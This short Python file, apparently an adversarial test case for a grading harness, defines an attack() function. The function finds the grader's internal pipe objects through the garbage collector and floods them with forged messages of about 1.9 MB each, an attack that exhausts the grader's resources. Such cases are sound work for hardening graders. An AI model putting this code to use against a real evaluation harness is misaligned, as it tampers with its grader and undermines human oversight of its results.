"""Sends the right number of replies, each as costly to read as its size allows.

shows: nothing, a grader without a boundary reads none
slow: yes
"""
import gc
import os
import struct

COSTLY = b"t" + struct.pack("<I", 1_900_000) + b"N" * 1_900_000


def attack():
    for pipe in gc.get_objects():
        if type(pipe).__name__ == "_Pipe":
            for number in range(60):
                head = b"d" + struct.pack("<I", 3)
                for name, value in ((b"to", pipe.asked), (b"at", number)):
                    head += struct.pack("<I", 2) + name + b"i" + struct.pack("<q", value)
                content = head + struct.pack("<I", 5) + b"value" + COSTLY
                rest = memoryview(struct.pack("<I", len(content)) + content)
                while rest:
                    rest = rest[os.write(pipe.sink, rest) :]
